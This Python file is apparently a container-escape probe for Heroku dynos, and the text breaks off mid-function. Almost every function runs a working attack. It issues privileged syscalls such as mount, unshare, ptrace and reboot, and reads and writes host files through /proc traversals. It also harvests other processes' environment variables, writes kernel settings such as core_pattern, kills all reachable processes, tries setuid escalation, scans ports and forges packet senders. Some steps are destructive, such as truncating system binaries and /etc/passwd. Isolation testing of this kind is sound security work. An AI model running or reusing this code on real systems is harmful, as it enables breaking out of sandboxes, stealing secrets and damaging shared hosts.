"""
Attempts to leave a dyno, each by name: `python3 probe.py NAME [JSON]` prints one line of JSON that says what came of it.
"refused ..." and "absent ..." are what must be; anything else is told as it was. Nothing here knows what is expected.
"""
import ctypes
import errno
import glob
import json
import mmap
import os
import platform
import resource
import select
import signal
import socket
import stat
import struct
import sys
import time

LIBC = ctypes.CDLL(None, use_errno=True)
X64 = platform.machine() == "x86_64"


def told(error):
    name = errno.errorcode.get(error.errno, str(error))
    return ("absent " if error.errno in (errno.ENOENT, errno.ENOTDIR, errno.ENODEV, errno.ENXIO, errno.ESRCH) else "refused ") + name


def attempt(action):
    """What an action gave, or why it was refused."""
    try:
        return action()
    except OSError as error:
        return told(error)


def apart(action):
    """The same in a process of its own: a filter may end it."""
    reading, writing = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            try:
                text = str(attempt(action))
            except Exception as error:
                text = "failed %r" % error
            os.write(writing, text.encode()[:4000])
        finally:
            os._exit(0)
    os.close(writing)
    with os.fdopen(reading, "rb") as pipe:
        text = pipe.read().decode("utf8", "replace")
    _, status = os.waitpid(child, 0)
    if os.WIFSIGNALED(status):
        return "refused " + signal.Signals(os.WTERMSIG(status)).name
    return text


def call(number, *args):
    ctypes.set_errno(0)
    result = LIBC.syscall(ctypes.c_long(number), *[ctypes.c_long(each) if isinstance(each, int) else each for each in args])
    if result == -1:
        raise OSError(ctypes.get_errno(), "syscall")
    return "done %d" % result


def read(path, size=4096):
    with open(path, "rb") as file:
        return file.read(size).decode("utf8", "replace")


# ---- what the dyno is

def identity(_):
    status = dict(line.split(":\t", 1) for line in read("/proc/self/status").splitlines() if ":\t" in line)
    keys = ("Uid", "Gid", "Groups", "CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp")
    return {
        "status": {key: status.get(key, "") for key in keys},
        "noNewPrivs": LIBC.prctl(39, 0, 0, 0, 0),
        "uidMap": read("/proc/self/uid_map").split(),
        "gidMap": read("/proc/self/gid_map").split(),
        "hostname": socket.gethostname(),
        "dyno": os.environ["HEROKU_DYNO_ID"],
        "cwd": os.getcwd(),
        "processes": [read("/proc/%s/comm" % pid).strip() for pid in os.listdir("/proc") if pid.isdigit()],
        "limits": {
            name: resource.getrlimit(getattr(resource, "RLIMIT_" + name)) for name in ("NOFILE", "NPROC", "CORE")
        },
        "cgroups": read("/proc/self/cgroup").splitlines(),
        "interfaces": [name for _, name in socket.if_nameindex()],
    }


def devices(_):
    """Every device node that can be seen anywhere, and what else is in /dev."""
    nodes = {}
    for folder, _folders, files in os.walk("/"):
        if folder.startswith("/proc"):
            continue
        for name in files:
            path = os.path.join(folder, name)
            try:
                facts = os.lstat(path)
            except OSError:
                continue
            if stat.S_ISCHR(facts.st_mode) or stat.S_ISBLK(facts.st_mode):
                nodes[path] = "%s %d:%d" % ("c" if stat.S_ISCHR(facts.st_mode) else "b", os.major(facts.st_rdev), os.minor(facts.st_rdev))
    made = {}
    for place in ("/dev/made", "/tmp/made", "/app/made", "/dev/shm/made"):
        for kind, device in ((stat.S_IFBLK, os.makedev(7, 0)), (stat.S_IFCHR, os.makedev(1, 1))):
            made["%s %d" % (place, kind)] = attempt(lambda: make_device(place, kind, device))
    return {"nodes": nodes, "dev": sorted(os.listdir("/dev")), "made": made}


def make_device(place, kind, device):
    """Refused, or what comes of using it."""
    os.mknod(place, kind | 0o666, device)
    used = attempt(lambda: "read %r" % read(place, 16))
    os.unlink(place)
    return "made, then " + used


def mounts(_):
    found = []
    for line in read("/proc/self/mountinfo", 1 << 20).splitlines():
        fields = line.split(" ")
        kind, source, options = fields[fields.index("-") + 1:][:3]
        found.append({"root": fields[3], "at": fields[4], "options": fields[5].split(","), "type": kind, "optional": fields[6:fields.index("-")]})
    return {"mounts": found}


def descriptors(_):
    """What is open in each process when it begins, and where one can go by it."""
    found = {}
    for pid in ["self", "1"] + [each for each in os.listdir("/proc") if each.isdigit()]:
        for fd in attempt(lambda: os.listdir("/proc/%s/fd" % pid)) if pid else []:
            path = "/proc/%s/fd/%s" % (pid, fd)
            target = attempt(lambda: os.readlink(path))
            if target == "/proc/%d/fd" % os.getpid() or (pid == "self" and "/proc/" in str(target) and str(target).endswith("/fd")):
                continue  # the folder being listed
            found[path] = {"target": target, "folder": attempt(lambda: "folder" if stat.S_ISDIR(os.stat(path).st_mode) else "no")}
    inherited = {}
    for fd in range(3, 256):
        try:
            inherited[str(fd)] = os.readlink("/proc/1/fd/%d" % fd)
        except OSError:
            pass
    moved = {}
    for fd in range(0, 64):
        for pid in ("self", "1"):
            path = "/proc/%s/fd/%d" % (pid, fd)
            moved[path] = apart(lambda: (os.chdir(path), os.getcwd())[1])
    return {"found": found, "inherited": inherited, "moved": moved}


def watch(given):
    """Each process that comes into the dyno meanwhile, as early as it can be seen: its program, what is open in it, where it stands."""
    known, seen, found, held, opened, environ, runtime = set(os.listdir("/proc")), {}, {}, {}, {}, {}, {}
    up = "/".join([".."] * 24)
    print("WATCHING", flush=True)
    until = time.monotonic() + given["seconds"]
    while time.monotonic() < until and not os.path.exists("/tmp/enough"):
        for pid in [each for each in os.listdir("/proc") if each.isdigit() and each not in known]:
            base = "/proc/%s" % pid
            facts = seen.setdefault(pid, {"looks": 0, "names": []})
            facts["looks"] += 1
            name = attempt(lambda: read(base + "/comm").strip())
            if name.startswith(("refused", "absent")):
                known.add(pid)  # it has ended
                continue
            if name not in facts["names"]:
                facts["names"].append(name)
            if name == given["runtime"]:
                got = {entry: entered(base + "/" + entry) for entry in ("exe", "cwd", "root", "fd", "environ", "mem")}
                if attempt(lambda: read(base + "/comm").strip()) == name:  # all the time
                    runtime.update(got)
            exe = attempt(lambda: os.readlink(base + "/exe"))
            if exe not in held:
                held[exe] = attempt(lambda: os.open(base + "/exe", os.O_RDONLY))
            what = attempt(lambda: write(base + "/exe", "x"))
            if not what.startswith(("refused", "absent")):
                opened[base + "/exe " + exe] = what
            for fd in list_of(base + "/fd"):
                what = attempt(lambda: leads("%s/fd/%s" % (base, fd)))
                if not what.startswith(("refused", "absent")):
                    opened["%s/fd/%s" % (base, fd)] = what
            for start in [base + "/root", base + "/cwd/" + up] + ["%s/fd/%s/%s" % (base, fd, up) for fd in list_of(base + "/fd")]:
                for path in given["paths"]:
                    text = attempt(lambda: read(start + path))
                    if any(word in text for word in given["words"]):
                        found[start + path] = text
            for line in attempt(lambda: read(base + "/environ", 1 << 20)).split("\0"):
                variable = line.split("=")[0]
                if "=" in line and variable not in os.environ:
                    environ[variable] = line
            if facts["looks"] > 500:
                known.add(pid)
    for exe, fd in held.items():  # once nobody runs it any more it is no longer busy
        if isinstance(fd, int):
            what = attempt(lambda: write("/proc/self/fd/%d" % fd, "x"))
            if not what.startswith(("refused", "absent")):
                opened["later " + exe] = what
    return {"count": len(seen), "names": sorted({name for each in seen.values() for name in each["names"]}),
            "programs": sorted(held), "found": found, "opened": opened, "environ": environ, "runtime": runtime}


def entered(path):
    """Whether it can be looked into, by whatever way."""
    tries = (os.readlink, os.listdir, lambda at: os.listdir(at + "/"), read)
    outcomes = [attempt(lambda: "seen %r" % (one(path),)) for one in tries]
    return next((each for each in outcomes if each.startswith("seen")), next((each for each in outcomes if "EACCES" in each), outcomes[0]))


def leads(path):
    """To a file or folder that the dyno does not have at its own path: what a process has open, its streams apart."""
    target, facts = os.readlink(path), os.stat(path)
    if not stat.S_ISDIR(facts.st_mode) and not stat.S_ISREG(facts.st_mode):
        return "refused: a stream"
    if attempt(lambda: os.path.samestat(os.stat(target), facts)) is True:
        return "refused: its own"
    return "the folder " + target if stat.S_ISDIR(facts.st_mode) else write(path, "x") + " to " + target


def list_of(folder):
    try:
        return os.listdir(folder)
    except OSError:
        return []


# ---- system calls

# name: (x86_64, arm64, arguments)
CLONE_NEWUSER = 0x10000000
CALLS = {
    "mount": (165, 40, b"none", b"/tmp", b"tmpfs", 0, 0),
    "umount2": (166, 39, b"/tmp", 2),
    "pivot_root": (155, 41, b"/tmp", b"/tmp"),
    "chroot": (161, 51, b"/tmp"),
    "unshare user": (272, 97, CLONE_NEWUSER),
    "unshare mount": (272, 97, 0x20000),
    "unshare net": (272, 97, 0x40000000),
    "unshare time": (272, 97, 0x80),
    "setns": (308, 268, 0, 0),
    "clone user": (56, 220, CLONE_NEWUSER | 17, 0, 0, 0, 0),
    "clone net": (56, 220, 0x40000000 | 17, 0, 0, 0, 0),
    "clone3": (435, 435, b"\0" * 88, 88),
    "fsopen": (430, 430, b"tmpfs", 0),
    "fsmount": (432, 432, 0, 0, 0),
    "open_tree": (428, 428, -100, b"/tmp", 1),
    "move_mount": (429, 429, -100, b"/tmp", -100, b"/app", 0),
    "mount_setattr": (442, 442, -100, b"/tmp", 0, b"\0" * 32, 32),
    "add_key": (248, 217, b"user", b"escape", b"x", 1, -3),
    "request_key": (249, 218, b"user", b"escape", 0, -3),
    "keyctl": (250, 219, 0, -3, 1),
    "bpf": (321, 280, 0, b"\0" * 128, 128),
    "userfaultfd": (323, 282, 1),
    "io_uring_setup": (425, 425, 8, b"\0" * 128),
    "io_uring_register": (427, 427, 0, 0, 0, 0),
    "perf_event_open": (298, 241, b"\0" * 128, 0, -1, -1, 0),
    "kexec_load": (246, 104, 0, 0, 0, 0),
    "kexec_file_load": (320, 294, 0, 0, 0, 0, 0),
    "init_module": (175, 105, b"x", 1, b""),
    "finit_module": (313, 273, 0, b"", 0),
    "delete_module": (176, 106, b"loop", 0),
    "ptrace attach 1": (101, 117, 16, 1, 0, 0),
    "ptrace traceme": (101, 117, 0, 0, 0, 0),
    "process_vm_readv": (310, 270, 1, b"\0" * 16, 1, b"\0" * 16, 1, 0),
    "process_vm_writev": (311, 271, 1, b"\0" * 16, 1, b"\0" * 16, 1, 0),
    "pidfd_getfd": (438, 438, 0, 0, 0),
    "process_madvise": (440, 440, 0, 0, 0, 0, 0),
    "kcmp": (312, 272, 1, 1, 0, 0, 0),
    "reboot": (169, 142, 0xFEE1DEAD, 672274793, 0, 0),
    "swapon": (167, 224, b"/tmp/x", 0),
    "swapoff": (168, 225, b"/tmp/x"),
    "settimeofday": (164, 170, b"\0" * 16, 0),
    "clock_settime": (227, 112, 0, b"\0" * 16),
    "sethostname": (170, 161, b"escaped", 7),
    "setdomainname": (171, 162, b"escaped", 7),
    "open_by_handle_at": (304, 265, -100, b"\0" * 16, 0),
    "acct": (163, 89, b"/tmp/x"),
    "quotactl": (179, 60, 0, 0, 0, 0),
    "quotactl_fd": (443, 443, 0, 0, 0, 0),
    "syslog": (103, 116, 3, b"\0" * 4096, 4095),
    "fanotify_init": (300, 262, 0, 0),
    "lookup_dcookie": (212, 18, 0, 0, 0),
    "mbind": (237, 235, 0, 0, 0, 0, 0, 0),
    "set_mempolicy": (238, 237, 0, 0, 0),
    "get_mempolicy": (239, 236, 0, 0, 0, 0, 0),
    "migrate_pages": (256, 238, 1, 8, b"\xff" * 8, b"\xff" * 8),
    "move_pages": (279, 239, 1, 0, 0, 0, 0, 0),
    "vhangup": (153, 58),
    "personality read implies exec": (135, 92, 0x0400000),
}
X64_ONLY = {
    "iopl": (172, 3),
    "ioperm": (173, 0x70, 1, 1),
    "uselib": (134, b"/tmp/x"),
    "ustat": (136, 0, b"\0" * 64),
    "sysfs": (139, 3),
    "x32 getpid": (0x40000000 + 39,),
}


def syscalls(_):
    table = {name: (row[0 if X64 else 1], *row[2:]) for name, row in CALLS.items()}
    if X64:
        table.update(X64_ONLY)
    results = {name: apart(lambda: call(*row)) for name, row in table.items()}
    if X64:
        results["int 0x80 getpid"] = apart(int80)
    results["btrfs subvolume"] = apart(lambda: ioctl("/tmp", 0x5000940E))
    results["btrfs snapshot"] = apart(lambda: ioctl("/tmp", 0x50009417))
    results["tiocsti"] = apart(lambda: ioctl("/dev/tty", 0x5412))
    return {"results": results}


def int80():
    """A system call of the 32 bit interface, which a filter for 64 bit alone would not see."""
    memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    memory.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")  # mov eax, 20; int 0x80; ret
    address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    return "done %d" % ctypes.CFUNCTYPE(ctypes.c_int)(address)()


def ioctl(path, request):
    import fcntl
    fd = os.open(path, os.O_RDONLY)
    return "done %d" % fcntl.ioctl(fd, request, bytearray(4096))


def sockets(given):
    families = {"ALG": 38, "VSOCK": 40, "PACKET": 17, "KEY": 15, "RDS": 21, "TIPC": 30, "RXRPC": 33, "BLUETOOTH": 31, "CAN": 29,
                "XDP": 44, "SMC": 43, "NFC": 39, "AX25": 3, "APPLETALK": 5, "KCM": 41, "QIPCRTR": 42, "CAIF": 37, "PHONET": 35, "LLC": 26}
    results = {}
    for name, family in families.items():
        for kind in (1, 2, 3, 5):
            results["%s %d" % (name, kind)] = apart(lambda: "made %d" % socket.socket(family, kind, 0).fileno())
    for protocol in (1, 6, 17, 255):
        results["raw inet %d" % protocol] = apart(lambda: "made %d" % socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol).fileno())
        results["raw inet6 %d" % protocol] = apart(lambda: "made %d" % socket.socket(socket.AF_INET6, socket.SOCK_RAW, protocol).fileno())
    for name, protocol in {"sctp": 132, "dccp": 33, "l2tp": 115, "udplite": 136}.items():
        for kind in (1, 2, 5):
            results["%s %d" % (name, kind)] = apart(lambda: "made %d" % socket.socket(socket.AF_INET, kind, protocol).fileno())
    for protocol in (4, 6, 9, 12, 15, 16, 20, 21): # diag, xfrm, audit, netfilter, uevents, generic, rdma, crypto
        results["netlink %d" % protocol] = apart(lambda: "made %d" % socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol).fileno())
    results["ping"] = apart(lambda: "made %d" % socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1).fileno())
    results["bind 80"] = apart(lambda: socket.socket().bind(("0.0.0.0", 80)))
    results["interface down"] = apart(interface_down)
    results["add route"] = apart(lambda: netlink(0, 24, b"\2\x20\0\0\xfe\0\x64\1" + b"\0" * 4))
    results["netfilter table"] = apart(lambda: netlink(12, (10 << 8) | 0, b"\1\0\0\0" + b"\x0c\0\1\0escape\0\0"))
    usable = {
        "inet": attempt(lambda: "made" if socket.socket() else ""),
        "inet6": attempt(lambda: "made" if socket.socket(socket.AF_INET6) else ""),
        "unix": attempt(lambda: "made" if socket.socketpair() else ""),
        "netlink": attempt(lambda: "made" if socket.if_nameindex() else ""),
    }
    return {"results": results, "usable": usable, "pings": pings(given.get("ping", []))}


def pings(addresses):
    """Asks all for an echo, where sockets for that may be made; no answer is told as refused."""
    asked = {address: attempt(lambda: ping(address)) for address in addresses}
    until = time.monotonic() + 2
    for address, one in asked.items():
        if isinstance(one, socket.socket):
            one.settimeout(max(0.05, until - time.monotonic()))
            asked[address] = attempt(lambda: "answered %r by %s" % one.recvfrom(4096))
            if asked[address] == "refused None":
                asked[address] = "refused by silence"
    return asked


def ping(address):
    family, protocol, kind = (socket.AF_INET6, 58, 128) if ":" in address else (socket.AF_INET, 1, 8)
    one = socket.socket(family, socket.SOCK_DGRAM, protocol)
    one.sendto(struct.pack("!BBHHH", kind, 0, 0, 1, 1) + b"escape", (address, 0, 0, scope_of(address)) if ":" in address else (address, 0))
    return one


def interface_down():
    import fcntl
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        fcntl.ioctl(one, 0x8914, struct.pack("16sh14x", b"lo", 0))
    return "done"


def netlink(protocol, kind, payload):
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol) as one:
        one.settimeout(2)
        one.send(struct.pack("=LHHLL", 16 + len(payload), kind, 5, 1, 0) + payload)
        answer = one.recv(4096)
    code = struct.unpack_from("=i", answer, 16)[0]
    if code < 0:
        raise OSError(-code, "netlink")
    return "done %d" % code


# ---- files

def places_of(path):
    """A path of the host by every way that leads, or led, out of a container."""
    yield path
    up = "/".join([".."] * 24)
    for start in ("/app", "/tmp", "/proc/self/cwd", "/proc/self/root", "/proc/1/root", "/proc/1/cwd", "/dev/fd", "/sys/fs/cgroup"):
        yield "%s/%s%s" % (start, up, path)
    for root in glob.glob("/proc/[0-9]*/root"):
        yield root + path
    for fd in glob.glob("/proc/[0-9]*/fd/*"):
        yield "%s/%s%s" % (fd, up, path)


def files(given):
    """Reads and writes files of the host, and of other dynos, by their paths there."""
    found = {}
    for path in given["paths"]:
        for place in places_of(path):
            text = attempt(lambda: read(place))
            if any(word in text for word in given["words"]):
                found[place] = text
    written = {}
    for path in given["paths"]:
        for place in places_of(path):
            written[place] = attempt(lambda: write(place, "escaped"))
    for link in ("/app/link", "/tmp/link"):
        for path in given["paths"]:
            attempt(lambda: os.unlink(link))
            attempt(lambda: os.symlink(path, link))
            text = attempt(lambda: read(link))
            if any(word in text for word in given["words"]):
                found[link + " -> " + path] = text
            made = attempt(lambda: os.link(path, link + "-hard"))
            if made is None:
                found[link + "-hard"] = "linked"
    words_in_proc = {}
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline") + ["/proc/net/unix", "/proc/mounts"]:
        text = attempt(lambda: read(path, 1 << 20))
        if any(word in text for word in given["words"]):
            words_in_proc[path] = text
    return {"found": found, "written": {place: what for place, what in written.items() if not what.startswith(("refused", "absent"))}, "inProc": words_in_proc}


def write(path, text):
    fd = os.open(path, os.O_WRONLY)
    try:
        return "wrote %d" % os.write(fd, text.encode())
    finally:
        os.close(fd)


def processes(given):
    """Processes of the host by their numbers there."""
    results = {}
    own = {int(pid) for pid in os.listdir("/proc") if pid.isdigit()}
    for pid in given["pids"]:
        if pid in own:
            continue
        for name in ("environ", "root/etc/hostname", "fd", "mem", "cwd"):
            path = "/proc/%d/%s" % (pid, name)
            results[path] = attempt(lambda: "seen %r" % os.lstat(path))
        results["kill %d" % pid] = attempt(lambda: "killed %r" % os.kill(pid, signal.SIGKILL))
        results["pidfd %d" % pid] = attempt(lambda: "opened %d" % os.pidfd_open(pid))
    return {"results": results, "highest": max(own)}


def killall(_):
    """SIGKILL to all that it may send a signal to, but itself."""
    os.kill(-1, 0)
    child = os.fork()
    if child == 0:
        os.setsid()
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        os.kill(-1, signal.SIGKILL)
        os._exit(0)
    os.waitpid(child, 0)
    return {"results": {}}


def writable_proc():
    yield from (
        "/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname", "/proc/sys/kernel/modprobe",
        "/proc/sys/vm/drop_caches", "/proc/sys/net/ipv4/ip_forward", "/proc/sys/net/ipv4/ip_unprivileged_port_start",
        "/proc/sys/net/ipv4/ping_group_range", "/proc/sys/fs/binfmt_misc/register", "/proc/sys/user/max_user_namespaces",
        "/proc/sys/kernel/shmmax", "/proc/sys/kernel/msgmax", "/proc/sys/fs/mqueue/msg_max", "/proc/sys/kernel/yama/ptrace_scope",
        "/proc/irq/default_smp_affinity", "/proc/mtrr", "/proc/self/attr/current", "/proc/self/attr/exec",
        "/proc/self/attr/apparmor/exec", "/proc/self/uid_map", "/proc/self/gid_map", "/proc/self/setgroups",
        "/proc/self/timens_offsets",
    )


def kernel(_):
    """The kernel's log, memory and settings."""
    written = {path: attempt(lambda: write(path, "0")) for path in writable_proc()}
    every = {}
    for folder, _folders, names in os.walk("/proc/sys"):
        for name in names:
            path = os.path.join(folder, name)
            value = attempt(lambda: open(path, "r+b").close())
            if value is None:
                every[path] = "opened for writing"
    lowered = attempt(lambda: write("/proc/self/oom_score_adj", "-1000"))
    reads = {}
    for path in ("/dev/kmsg", "/proc/kmsg", "/proc/kcore", "/dev/mem", "/dev/kmem", "/dev/port", "/sys/kernel/debug", "/sys/kernel/tracing",
                 "/sys/firmware", "/sys/devices/virtual/powercap", "/sys/devices/system/cpu/cpu0/thermal_throttle", "/sys/fs/bpf", "/sys/class/net",
                 "/sys/dev/block", "/sys/fs/selinux", "/sys/module",
                 "/proc/keys", "/proc/timer_list", "/proc/timer_stats", "/proc/sched_debug", "/proc/latency_stats", "/proc/interrupts", "/proc/acpi", "/proc/scsi", "/proc/asound",
                 "/proc/slabinfo", "/proc/vmallocinfo", "/proc/kpagecount", "/proc/kpageflags", "/proc/pagetypeinfo"):
        reads[path] = attempt(lambda: ("lists %r" % os.listdir(path)) if os.path.isdir(path) else ("read %r" % read(path)))
    symbols = attempt(lambda: read("/proc/kallsyms"))
    reads["/proc/kallsyms addresses"] = "hidden" if all(line.startswith("0000000000000000") for line in symbols.splitlines()[:-1]) else symbols[:200]
    return {"written": written, "every": every, "lowered": lowered, "reads": reads}


def cgroups(given):
    root = "/sys/fs/cgroup"
    names, opened, made, values = [], {}, {}, {}
    for folder, folders, found in os.walk(root):
        names += folders + found
        made[folder] = attempt(lambda: os.mkdir(folder + "/escape"))
        for name in found:
            path = os.path.join(folder, name)
            what = attempt(lambda: os.close(os.open(path, os.O_WRONLY)))
            if what is None:
                opened[path] = "opened for writing"
            if name in ("memory.max", "memory.limit_in_bytes", "pids.max"):
                values[path] = attempt(lambda: read(path).strip())
    limit = [path for path in values if path.endswith(("memory.max", "memory.limit_in_bytes"))]
    raised = {path: attempt(lambda: write(path, "-1")) for path in limit}
    return {"names": names, "opened": opened, "made": made, "values": values, "raised": raised}


def stack(_):
    """What all dynos share must not be changed by one, neither through a path nor through what it has open."""
    results = {}
    for path in ("/usr/bin/python3", "/usr/bin/tini", "/bin/bash", "/etc/passwd", "/usr/lib/os-release", "/etc/hosts", "/etc/resolv.conf"):
        real = os.path.realpath(path)
        results["write " + path] = attempt(lambda: write(real, "x"))
        results["truncate " + path] = attempt(lambda: os.truncate(real, 0))
        results["unlink " + path] = attempt(lambda: os.unlink(real))
        results["chmod " + path] = attempt(lambda: os.chmod(real, 0o4777))
        results["chown " + path] = attempt(lambda: os.chown(real, 1000, 1000))
        results["map " + path] = apart(lambda: shared_map(real))
    for pid in ("self", "1"):
        path = "/proc/%s/exe" % pid
        results["write " + path] = attempt(lambda: write(path, "x"))
        results["through fd " + path] = attempt(lambda: through(path))
    for path in ("/dev/null", "/dev/zero", "/dev/tty", "/dev/pts", "/dev/ptmx", "/dev/console", "/dev/fd", "/dev/shm", "/dev/mqueue", "/proc/self/fd"):
        results["unlink " + path] = attempt(lambda: os.unlink(path))
        results["rename " + path] = attempt(lambda: os.rename(path, path + "-old"))
    for path in ("/dev/new", "/dev/pts/new", "/sys/new", "/proc/new", "/new", "/etc/new", "/run/new", "/mnt/new", "/home/new"):
        results["symlink " + path] = attempt(lambda: os.symlink("/proc/sys/kernel/core_pattern", path))
    return {"results": results}


def shared_map(path):
    fd = os.open(path, os.O_RDONLY)
    mmap.mmap(fd, 1, mmap.MAP_SHARED, mmap.PROT_WRITE)
    return "mapped"


def through(path):
    fd = os.open(path, os.O_PATH)
    return write("/proc/self/fd/%d" % fd, "x")


# ---- the network

AT_ONCE = 1000
# Packets of a dyno that opens more than 1000 connections a second (after 4000) are dropped, and a dropped one proves nothing.
BURST, PER_SECOND = 3500, 900


def scan(given):
    """Which ports of which addresses accept a connection: all are tried side by side; `silent` are those that never answered."""
    seconds = given.get("seconds", 10)
    results = [{"address": each["address"], "accepted": [], "errors": {}, "silent": []} for each in given["targets"]]
    families = {4: [], 6: []}  # each is counted by itself
    for each, result in zip(given["targets"], results):
        ports = each.get("ports") or range(each["first"], each["last"] + 1)
        families[6 if ":" in each["address"] else 4].append((result, ports))
    waiting = {family: ((result, port) for result, ports in lists for port in ports) for family, lists in families.items()}
    opened, busy, poller, began = {4: 0, 6: 0}, {}, select.epoll(), time.monotonic()
    while waiting or busy:
        now = time.monotonic()
        for family in list(waiting):
            may = BURST + int(PER_SECOND * (now - began))
            while len(busy) < AT_ONCE and opened[family] < may:
                result, port = next(waiting[family], (None, None))
                if result is None:
                    del waiting[family]
                    break
                opened[family] += 1
                begin(result, port, busy, poller, now + seconds)
        for fd, _ in poller.poll(0.02):
            one, result, port, _ = busy.pop(fd)
            note(result, port, one.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR))
            one.close()
        for fd in [fd for fd, (_, _, _, until) in busy.items() if until < now]:
            one, result, port, _ = busy.pop(fd)
            result["silent"].append(port)
            one.close()
    for result in results:
        result["accepted"].sort()
    return {"results": results}


def begin(result, port, busy, poller, until):
    address = result["address"]
    one = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET)
    one.setblocking(False)
    try:
        code = one.connect_ex((address, port, 0, scope_of(address)) if ":" in address else (address, port))
    except OSError as error:
        code = error.errno
    if code == errno.EINPROGRESS:
        busy[one.fileno()] = (one, result, port, until)
        poller.register(one.fileno(), select.EPOLLOUT)
    else:
        note(result, port, code)
        one.close()


def scope_of(address):
    return socket.if_nametoindex("eth0") if address.startswith(("fe80:", "ff02:")) else 0


def note(result, port, code):
    if code == 0:
        result["accepted"].append(port)
    else:
        name = errno.errorcode[code]
        result["errors"][name] = result["errors"].get(name, 0) + 1


def udp(given):
    """Which ports answer a datagram; two seconds for all."""
    asked, results = {}, {}
    for each in given["targets"]:
        for port in each["ports"]:
            name = "%s %d" % (each["address"], port)
            one = socket.socket(socket.AF_INET6 if ":" in name else socket.AF_INET, socket.SOCK_DGRAM)
            one.setblocking(False)
            results[name] = attempt(lambda: one.connect((each["address"], port)) or one.send(b"hello")) or "refused by silence"
            asked[name] = one
    until = time.monotonic() + 2
    while time.monotonic() < until:
        for name, one in asked.items():
            answer = attempt(lambda: one.recv(64))
            if answer != "refused EAGAIN":
                results[name] = answer if isinstance(answer, str) else "answered %r" % answer
        time.sleep(0.05)
    return {"results": {name: "refused by silence" if what == 5 else what for name, what in results.items()}}


def neighbours(given):
    """Unix sockets, abstract or in files, of others."""
    results = {}
    for path in given["sockets"]:
        for place in (path, "/proc/1/root" + path, "\0victim"):
            for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
                with socket.socket(socket.AF_UNIX, kind) as one:
                    results["%s %d" % (place.replace("\0", "@"), kind)] = attempt(lambda: one.connect(place))
    return {"results": results}


def suid(given):
    """Runs what has a set-uid bit: in the stack, and made by itself."""
    import shutil
    import subprocess
    results = {}
    mine = "/app/suid-id"
    shutil.copy("/usr/bin/id", mine)
    os.chmod(mine, 0o6755)
    candidates = [mine] + [path for path in given.get("paths", [])]
    for folder in ("/usr/bin", "/usr/sbin", "/usr/lib"):
        for base, _folders, names in os.walk(folder):
            for name in names:
                path = os.path.join(base, name)
                facts = os.lstat(path)
                if stat.S_ISREG(facts.st_mode) and facts.st_mode & 0o6000:
                    candidates.append(path)
    for path in candidates:
        if path.endswith("id"):
            results[path] = subprocess.run([path, "-u"], capture_output=True, text=True).stdout.strip()
    os.chmod(mine, 0o755)
    for uid in (0, 1, 65534, 1001):
        results["setuid %d" % uid] = apart(lambda: os.setresuid(uid, uid, uid))
        results["setgid %d" % uid] = apart(lambda: os.setresgid(uid, uid, uid))
    results["setgroups"] = apart(lambda: os.setgroups([0]))
    results["file capability"] = apart(lambda: os.setxattr(mine, "security.capability", b"\1\0\0\2\xff\xff\xff\xff" + b"\0" * 12))
    results["trusted xattr"] = apart(lambda: os.setxattr(mine, "trusted.overlay.opaque", b"y"))
    return {"results": results, "candidates": candidates}


def nested(given):
    """As root of a user namespace of its own, or without where none may be made: the host's files, devices, addresses."""
    unshared = attempt(lambda: call(272 if X64 else 97, CLONE_NEWUSER))
    for name, text in (("setgroups", "deny"), ("uid_map", "0 1000 1"), ("gid_map", "0 1000 1")):
        attempt(lambda: write("/proc/self/" + name, text))
    attempt(lambda: write("/proc/self/oom_score_adj", "-1000"))
    for kind in (0x20000, 0x04000000, 0x08000000):  # mounts, hostname, ipc
        attempt(lambda: call(272 if X64 else 97, kind))
    attempt(lambda: call(*((170 if X64 else 161), b"escaped", 7)))
    for path in writable_proc():
        attempt(lambda: write(path, "0"))
    for kind, at in ((b"proc", b"/mnt"), (b"sysfs", b"/mnt"), (b"devtmpfs", b"/dev"), (b"cgroup2", b"/sys/fs/cgroup"), (b"9p", b"/opt"), (b"erofs", b"/srv")):
        attempt(lambda: call(165 if X64 else 40, b"none", at, kind, 0, 0))
    seen = files(given)
    devices = {}
    for place in ("/tmp", "/dev/shm", "/mnt"):
        for kind, major, minor in ((stat.S_IFBLK, 7, 0), (stat.S_IFBLK, 254, 0), (stat.S_IFCHR, 1, 1), (stat.S_IFCHR, 1, 11), (stat.S_IFCHR, 10, 237)):
            path = "%s/nested" % place
            devices["%s %d %d:%d" % (place, kind, major, minor)] = attempt(lambda: make_device(path, kind, os.makedev(major, minor)))
    devices["tun"] = attempt(tun)
    devices["raw"] = attempt(lambda: "made %d" % socket.socket(socket.AF_INET, socket.SOCK_RAW, 255).fileno())
    devices["packet"] = attempt(lambda: "made %d" % socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3).fileno())
    router = given["router"]
    devices["own sender"] = attempt(lambda: raw_syn(own_address(router["address"]), router["address"], router["port"]))
    devices["false sender"] = attempt(lambda: raw_syn(given["falseSender"], router["address"], router["port"]))
    scans = [{"address": each["address"], "accepted": each["accepted"]} for each in scan(given)["results"]]
    attempt(lambda: call(169 if X64 else 142, 0xFEE1DEAD, 672274793, 0x1234567, 0))  # restart, last of all
    return {"unshare": unshared, "found": seen["found"], "written": seen["written"], "devices": devices, "scans": scans}


def own_address(other):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.connect((other, 9))
        return one.getsockname()[0]


def raw_syn(source, destination, port):
    """Asks for a connection in a packet of its own making; whether an answer to it comes here."""
    ends = socket.inet_aton(source) + socket.inet_aton(destination)
    listening = socket.socket(socket.AF_INET, socket.SOCK_RAW, 6)
    listening.settimeout(0.2)
